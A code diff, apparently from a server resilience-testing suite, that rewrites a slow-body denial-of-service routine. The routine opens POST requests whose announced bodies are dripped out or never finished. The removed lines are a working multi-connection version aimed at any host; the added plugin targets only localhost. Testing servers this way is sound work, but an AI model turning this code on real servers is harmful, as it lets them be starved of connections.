@@ -1,14 +1,12 @@
-"""Many connections that announce a body and never finish it: silent, dripping, or in chunks without an end."""
+"""Connections that announce a body and never finish it: silent, dripping, or in chunks without an end."""
 
 from __future__ import annotations
 
-import selectors
 import socket
-import time
 from collections import Counter
-from collections.abc import Iterator
-from contextlib import suppress
-from itertools import count, product
+from itertools import product
+
+from . import Target, attack
 
 PATHS = ("/sign-in", "/csp-report", "/theme", "/hooks/x")
 PATIENCE = 10
@@ -21,62 +19,37 @@ SENDERS = (
     ("Transfer-Encoding: chunked", b"1\r\na\r\n"),
 )
 """How the body is announced, and what is sent of it after each pause."""
+KINDS = list(product(SENDERS, PATHS))
 
 
-class SlowSender:
-    """One connection, opened anew with another request as soon as the server ends it."""
-
-    def __init__(self, host: str, port: int, turns: Iterator[int], answers: Counter[int]) -> None:
-        self.address, self.turns, self.answers = (host, port), turns, answers
-        self.begin()
-
-    def begin(self) -> None:
-        kinds = list(product(SENDERS, PATHS))
-        (length, self.drop), path = kinds[next(self.turns) % len(kinds)]
-        head = f"POST {path} HTTP/1.1\r\nHost: {self.address[0]}\r\n{FORM}\r\n{length}\r\n\r\n"
-        self.socket = socket.create_connection(self.address, timeout=PATIENCE)
-        self.socket.sendall(head.encode())
-        self.socket.setblocking(False)
-        self.next = time.monotonic() + PAUSE
-
-    def drip(self) -> None:
-        """Sends what is due now."""
-        if time.monotonic() < self.next:
-            return
-        self.next += PAUSE
-        with suppress(OSError):
-            self.socket.send(self.drop)
-
-    def end(self) -> None:
-        """Notes how the server ended it: the status of its answer, 0 for none."""
-        answer = b""
-        with suppress(OSError):
-            answer = self.socket.recv(65536)
-        self.socket.close()
-        self.answers[int(answer[9:12]) if answer.startswith(b"HTTP/1.") else 0] += 1
-
-
-def attack(host: str, port: int, seconds: float, connections: int) -> Counter[int]:
-    """Keeps so many connections busy with nothing for so long; how often which status came, 0 for a mere end."""
-    answers: Counter[int] = Counter()
-    turns = count()
-    end = time.monotonic() + seconds
-    with selectors.DefaultSelector() as selector:
-        for _ in range(connections):
-            sender = SlowSender(host, port, turns, answers)
-            selector.register(sender.socket, selectors.EVENT_READ, sender)
-        while time.monotonic() < end:
-            for key, _events in selector.select(PAUSE / 10):
-                _open_anew(selector, key.data)
-            for key in list(selector.get_map().values()):
-                key.data.drip()
-        for key in list(selector.get_map().values()):
-            key.data.socket.close()
+@attack("slow-bodies")
+def send_slowly(target: Target) -> Counter[str]:
+    """One request after the other, each until the server ends it."""
+    answers: Counter[str] = Counter()
+    while not target.is_over:
+        answers[_send_one(target, KINDS[(target.number + answers.total()) % len(KINDS)])] += 1
     return answers
 
 
-def _open_anew(selector: selectors.BaseSelector, sender: SlowSender) -> None:
-    selector.unregister(sender.socket)
-    sender.end()
-    sender.begin()
-    selector.register(sender.socket, selectors.EVENT_READ, sender)
+def _send_one(target: Target, kind: tuple[tuple[str, bytes], str]) -> str:
+    """How it ended: the answer's status, the error's name, or "open" where the attack was over first."""
+    (length, drop), path = kind
+    head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{FORM}\r\n{length}\r\n\r\n"
+    try:
+        with socket.create_connection(("127.0.0.1", target.port), timeout=PATIENCE) as connection:
+            connection.sendall(head.encode())
+            connection.settimeout(PAUSE)
+            return _drip(target, connection, drop)
+    except OSError as error:
+        return type(error).__name__
+
+
+def _drip(target: Target, connection: socket.socket, drop: bytes) -> str:
+    while not target.is_over:
+        try:
+            answer = connection.recv(65536)
+        except TimeoutError:
+            connection.sendall(drop)
+        else:
+            return answer[9:12].decode() if answer.startswith(b"HTTP/1.") else "closed"
+    return "open"
